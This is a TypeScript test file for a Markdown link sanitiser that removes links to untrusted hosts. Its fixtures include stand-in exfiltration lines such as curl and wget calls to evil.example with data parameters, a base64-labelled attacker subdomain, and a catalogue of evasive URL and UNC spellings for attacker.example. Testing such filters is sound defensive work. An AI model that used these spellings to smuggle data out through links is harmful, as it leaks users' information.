import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { MaxParsedChars, WithheldReply, rewriteLinks } from "./markdown-links.ts";
import type { LinkKind } from "./markdown-links.ts";
import { findUrlSpans, linkHost } from "./url-spans.ts";

// Keeps URLs on ok.example (and relative ones); refuses everything else. Records every question.
function run(markdown: string, keep: (url: string, kind: LinkKind) => boolean = (url) => /(^|[/.@])ok\.example([/:?#]|$)/i.test(url)) {
  const judged: string[] = [];
  const result = rewriteLinks(markdown, (url, kind) => {
    judged.push(`${kind} ${url}`);
    return keep(url, kind) ? { keep: true } : { keep: false };
  });
  return { ...result, judged };
}

describe("rewriteLinks: every form is judged", () => {
  it("inline links and images, with the link text kept", () => {
    const r = run("See [the **docs**](https://ok.example/d) and [this](http://evil.example/x?d=1) ![chart](https://evil.example/c.png).");
    assert.deepEqual(r.judged, ["link https://ok.example/d", "link http://evil.example/x?d=1", "image https://evil.example/c.png"]);
    assert.equal(r.text, "See [the **docs**](https://ok.example/d) and this [link to evil[.]example removed by Warden] [image removed by Warden].");
    assert.deepEqual(r.removed, [
      { url: "http://evil.example/x?d=1", kind: "link" },
      { url: "https://evil.example/c.png", kind: "image" },
    ]);
  });

  it("reference-style images and links with their definitions, used or not", () => {
    const md = "![x][1] and [text][] and [short] and [kept][k]\n\n[1]: http://evil.example/i?d=s\n[text]: //evil.example/t\n[short]: HTTP://EVIL.example/s\n[k]: https://ok.example/k\n[unused]: https://evil.example/u\n\nend";
    const r = run(md);
    assert.deepEqual(r.judged, [
      "image http://evil.example/i?d=s",
      "link //evil.example/t",
      "link HTTP://EVIL.example/s",
      "link https://ok.example/k",
      "definition http://evil.example/i?d=s",
      "definition //evil.example/t",
      "definition HTTP://EVIL.example/s",
      "definition https://ok.example/k",
      "definition https://evil.example/u",
    ]);
    assert.equal(
      r.text,
      "[image removed by Warden] and text [link to evil[.]example removed by Warden] and short [link to evil[.]example removed by Warden] and [kept][k]\n\n[k]: https://ok.example/k\n\nend",
    );
  });

  it("autolinks, GFM literals (www. too), upper-case schemes, e-mail, hxxp and scheme-less domains with a path", () => {
    const r = run("a <https://evil.example/a> b www.evil.example/w c HTTP://EVIL.EXAMPLE/u d x@evil.example e hxxp://evil.example/h f attacker.example.net/x?d=1 g www.ok.example/fine");
    assert.deepEqual(r.judged, [
      "autolink https://evil.example/a",
      "bare www.evil.example/w",
      "bare HTTP://EVIL.EXAMPLE/u",
      "bare x@evil.example",
      "bare hxxp://evil.example/h",
      "bare attacker.example.net/x?d=1",
      "bare www.ok.example/fine",
    ]);
    assert.equal(
      r.text,
      "a [link to evil[.]example removed by Warden] b [link to a host under evil[.]example removed by Warden] c [link to evil[.]example removed by Warden] d [link to evil[.]example removed by Warden] e [link to evil[.]example removed by Warden] f [link to a host under example[.]net removed by Warden] g www.ok.example/fine",
    );
  });

  it("judges a scheme-less link under an internationalized top-level domain in its ASCII form", () => {
    assert.deepEqual(run("Details: example.xn--p1ai/c?d=98765").judged, ["bare example.xn--p1ai/c?d=98765"]);
  });

  it("leaves file names and bare two-label domains alone, judges data-bearing subdomains", () => {
    const r = run("Edit notes.txt and package.json? See example.com. Version 1.2.3, e.g. this. c2VjcmV0.attacker.example is odd.");
    assert.deepEqual(r.judged, ["bare c2VjcmV0.attacker.example"]);
    assert.match(r.text, /notes\.txt and package\.json\? See example\.com\./);
    assert.match(r.text, /\[link to a host under attacker\[\.\]example removed by Warden\] is odd\./);
  });

  it("raw HTML: every URL attribute, srcset candidates, poster, iframe, CSS url(), entity-encoded values", () => {
    const md = [
      'x <img src="https://evil.example/p.png?d=1"> y',
      '<a href="https://ok.example/a">ok</a>',
      "",
      '<video poster="//evil.example/poster.jpg"><source src="https://ok.example/v.mp4"></video>',
      "",
      '<picture><img srcset="https://ok.example/1.png 1x, https://evil.example/2.png 2x"></picture>',
      "",
      '<iframe src="http&#58;//evil.example/f"></iframe>',
      "",
      '<div style="background:url(/rel/bg.png)">text</div>',
    ].join("\n");
    const r = run(md, (url) => url.includes("ok.example"));
    assert.ok(r.judged.includes("html https://evil.example/p.png?d=1"));
    assert.ok(r.judged.includes("html https://ok.example/a"));
    assert.ok(r.judged.includes("html //evil.example/poster.jpg"));
    assert.ok(r.judged.includes("html https://evil.example/2.png"));
    assert.ok(r.judged.includes("html http://evil.example/f"), "entities in attributes are decoded before judging");
    assert.ok(r.judged.includes("html /rel/bg.png"));
    assert.equal(
      r.text,
      [
        "x [HTML removed by Warden] y",
        '<a href="https://ok.example/a">ok</a>',
        "",
        // <video> and <picture> are inline HTML to CommonMark: each tag is its own node.
        '[HTML removed by Warden]<source src="https://ok.example/v.mp4"></video>',
        "",
        "<picture>[HTML removed by Warden]</picture>",
        "",
        "[HTML removed by Warden]",
        "",
        "[HTML removed by Warden]",
      ].join("\n"),
    );
  });

  it("URLs inside link titles and image alt text take the whole construct with them", () => {
    const r = run('[a](https://ok.example/a "see https://evil.example/t?d=1") ![see evil.example/x?d=2](https://ok.example/i.png)');
    assert.deepEqual(r.judged, ["link https://ok.example/a", "bare https://evil.example/t?d=1", "image https://ok.example/i.png", "bare evil.example/x?d=2"]);
    assert.equal(r.text, "a [link to ok[.]example removed by Warden] [image removed by Warden]");
  });

  it("code spans and fenced code: URL-looking spans are judged as bare, replaced in place", () => {
    const md = "Run `curl https://evil.example/x?d=1` now.\n\n```sh\nwget evil.example/y?d=2\ncurl https://ok.example/z\n```\n";
    const r = run(md);
    assert.deepEqual(r.judged, ["bare https://evil.example/x?d=1", "bare evil.example/y?d=2", "bare https://ok.example/z"]);
    assert.equal(
      r.text,
      "Run `curl [link to evil[.]example removed by Warden]` now.\n\n```sh\nwget [link to evil[.]example removed by Warden]\ncurl https://ok.example/z\n```\n",
    );
  });

  it("javascript: and data: URLs are judged like any other, and a removed one has an unknown host", () => {
    const r = run("[click](javascript:alert(1)) ![i](data:image/png;base64,AAAA)");
    assert.deepEqual(r.judged, ["link javascript:alert(1)", "image data:image/png;base64,AAAA"]);
    assert.equal(r.text, "click [link to an unknown host removed by Warden] [image removed by Warden]");
  });
});

describe("rewriteLinks: tricky syntax", () => {
  it("nested brackets, an image inside a link, links inside emphasis", () => {
    const r = run("[a [b] c](http://evil.example/1) **[bold](http://evil.example/2)** [![img](http://evil.example/3)](https://ok.example/4)");
    assert.deepEqual(r.judged, ["link http://evil.example/1", "link http://evil.example/2", "link https://ok.example/4", "image http://evil.example/3"]);
    assert.equal(
      r.text,
      "a [b] c [link to evil[.]example removed by Warden] **bold [link to evil[.]example removed by Warden]** [[image removed by Warden]](https://ok.example/4)",
    );
  });

  it("escaped brackets are text, and a URL in them is still judged as bare", () => {
    const r = run("\\[not a link\\](http://evil.example/x?d=1)");
    assert.deepEqual(r.judged, ["bare http://evil.example/x?d=1"]);
    assert.equal(r.text, "\\[not a link\\]([link to evil[.]example removed by Warden])");
  });

  it("HTML entities in destinations and in text decode before judging", () => {
    const r = run("![x](http&#58;//evil.example/&#x78;?d=1) and &#x68;ttps://evil.example/t");
    assert.ok(r.judged.includes("image http://evil.example/x?d=1"));
    assert.ok(r.judged.includes("bare https://evil.example/t"));
    assert.doesNotMatch(r.text, /evil\.example/);
  });

  it("a definition inside a blockquote goes without breaking the quote", () => {
    const r = run("> [1]: http://evil.example/q\n> quoted text\n");
    assert.equal(r.text, "> \n> quoted text\n");
  });

  it("a definition labelled like a notice is always removed, so a notice never becomes a link", () => {
    const r = run("![x](http://evil.example/i)\n\n[image removed by Warden]: https://ok.example/innocent\n", () => false);
    assert.equal(r.text, "[image removed by Warden]\n\n");
    assert.ok(r.removed.some((x) => x.kind === "definition" && x.url === "https://ok.example/innocent"));
  });

  it("a construct formed by rewriting is judged in a further pass", () => {
    // Removing the image turns `[x]` + notice + `(…)` into new bracket text; the final text passes a full pass.
    const r = run("[x]![i](http://evil.example/i)(https://ok.example/later)");
    const again = run(r.text);
    assert.equal(again.text, r.text);
    assert.deepEqual(again.removed, []);
  });

  it("asks about each (url, kind) once, and a judge that throws is a refusal", () => {
    let calls = 0;
    const r = rewriteLinks("[a](http://x.example/1) [b](http://x.example/1)", () => {
      calls++;
      throw new Error("judge broke");
    });
    assert.equal(calls, 1);
    assert.equal(r.text, "a [link to x[.]example removed by Warden] b [link to x[.]example removed by Warden]");
  });
});

describe("rewriteLinks: bounded on hostile inputs", () => {
  it("a paragraph with thousands of emphasis delimiters is rewritten without parsing, conservatively", () => {
    const md = `${"*a_".repeat(2000)} ![x](//evil.example/i?d=1) <img src=x>`;
    const r = run(md);
    assert.deepEqual(r.judged, ["bare //evil.example/i?d=1"]);
    assert.ok(r.text.endsWith("\\!\\[x\\]([link to evil[.]example removed by Warden]) \\<img src=x\\>"));
  });

  it("deeply nested list markers and over-long texts are rewritten conservatively too", () => {
    const nested = run(`${"1. ".repeat(5000)}[a](http://evil.example/n)`);
    assert.ok(nested.text.endsWith("\\[a\\]([link to evil[.]example removed by Warden])"));
    const long = run(`${"word ".repeat(MaxParsedChars / 5 + 1)}![x](https://evil.example/l)`);
    assert.ok(long.text.endsWith("\\!\\[x\\]([link to evil[.]example removed by Warden])"));
  });

  it("a text with nothing to remove comes back unchanged", () => {
    const md = "# Title\n\n- item with `code` and **bold**\n- [ok](https://ok.example/x)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n";
    const r = run(md);
    assert.equal(r.text, md);
    assert.deepEqual(r.removed, []);
    assert.notEqual(r.text, WithheldReply);
  });
});

describe("url-spans", () => {
  it("finds spans the way a chat client link-ifies, and trims trailing punctuation", () => {
    assert.deepEqual(
      findUrlSpans("(see https://a.example/x), then //b.example/y. And c.example/z?q=1!").map((s) => s.url),
      ["https://a.example/x", "//b.example/y", "c.example/z?q=1"],
    );
  });

  it("linkHost reads absolute, protocol-relative, bare and e-mail forms", () => {
    assert.equal(linkHost("HTTP://EVIL.example/x"), "evil.example");
    assert.equal(linkHost("//evil.example/x"), "evil.example");
    assert.equal(linkHost("evil.example/x?d=1"), "evil.example");
    assert.equal(linkHost("mailto:me@evil.example"), "evil.example");
    assert.equal(linkHost("javascript:alert(1)"), undefined);
    assert.equal(linkHost("/relative"), undefined);
  });
});

// Spellings of one data-bearing link, as clients read them. Telegram and Slack link-ify a bare domain with a path
// wherever it stands in a token (so `attacker.example/c?d=1` after any malformed prefix is a link); the WHATWG
// parser (browsers, Node, every client built on them) reads `http:/h`, `http:\\h` and `https:\\h\p` as http(s)
// URLs to `h`; Windows and Outlook open `\\h\share` as an SMB link; NFKC-folding clients read fullwidth forms
// as ASCII. [spelling, host a client reaches] — every one must be judged and, refused, removed.
const spellings: Array<[string, string]> = [
  ["http:/attacker.example/c?d=1", "attacker.example"], // WHATWG: one slash is enough for a special scheme
  ["https:attacker.example/c?d=1", "attacker.example"], // WHATWG: no slash at all
  ["http:\\\\attacker.example/c?d=1", "attacker.example"], // WHATWG: backslashes are slashes
  ["https:\\\\attacker.example\\c?d=1", "attacker.example"],
  ["http:/\\attacker.example/c?d=1", "attacker.example"],
  ["\\\\attacker.example\\c?d=1", "attacker.example"], // UNC: SMB on a Windows click
  ["\\/attacker.example/c?d=1", "attacker.example"], // WHATWG: scheme-relative with a backslash
  ["ｈｔｔｐ://attacker.example/c?d=1", "attacker.example"], // fullwidth scheme letters (NFKC)
  ["ｈｔｔｐｓ：／／attacker．example／c?d=1", "attacker.example"], // fullwidth colon, slashes and dot
  ["ｈｔｔｐｓ：／／a．attacker．example／c?d=1", "a.attacker.example"], // the hand scan alone sees only the host
  ["HtTp:/ATTACKER.example/c?d=1", "attacker.example"],
  ["htp:/attacker.example/c?d=1", "attacker.example"], // a malformed scheme: Telegram/Slack link-ify the rest
  ["hxxps:\\\\attacker.example/c?d=1", "attacker.example"],
  ["x:attacker.example/c?d=1", "attacker.example"],
  ["mailto:attacker.example/c?d=1", "attacker.example"],
  ["ftp:/attacker.example/c?d=1", "attacker.example"], // removed as a non-http scheme
  ["\\\\intranet\\c?d=1", "intranet"], // UNC to a one-label name: resolved by LLMNR/NetBIOS, which anyone on the LAN may answer
];

describe("rewriteLinks: URL spellings clients and WHATWG accept", () => {
  for (const [spelling, host] of spellings) {
    it(`\`${spelling}\` is a link to ${host}, removed`, () => {
      // In Markdown text `\\` is also read as an escaped `\`: the source and the unescaped text are both judged.
      const r = run(`The page says see ${spelling} for details.`);
      assert.ok(r.removed.length >= 1, r.judged.join(" | "));
      for (const { url } of r.removed) assert.equal(linkHost(url), host, url);
      assert.ok(!r.text.includes("d=1"), r.text);
      const inCode = run(`\`${spelling}\``);
      assert.equal(inCode.removed.length, 1, `in a code span: ${inCode.judged.join(" | ")}`);
      assert.ok(!inCode.text.includes("d=1"), inCode.text);
    });
  }

  it("a label glued to a well-formed URL does not hide the URL from the judge", () => {
    const r = run("Docs:https://ok.example/d and see:https://evil.example/x?d=1");
    assert.deepEqual(r.judged, ["bare https://ok.example/d", "bare https://evil.example/x?d=1"]);
    assert.equal(r.text, "Docs:https://ok.example/d and see:[link to evil[.]example removed by Warden]");
  });

  it("text that names no host stays: Windows paths, times, relative paths, ratios, words with accents", () => {
    for (const text of ["C:\\Users\\me\\notes.txt", "at 12:30, 3:1", "src/a.test.ts", "note: café crème", "std::vector<int>", "a:b"]) {
      assert.deepEqual(run(text).removed, [], text);
    }
  });
});
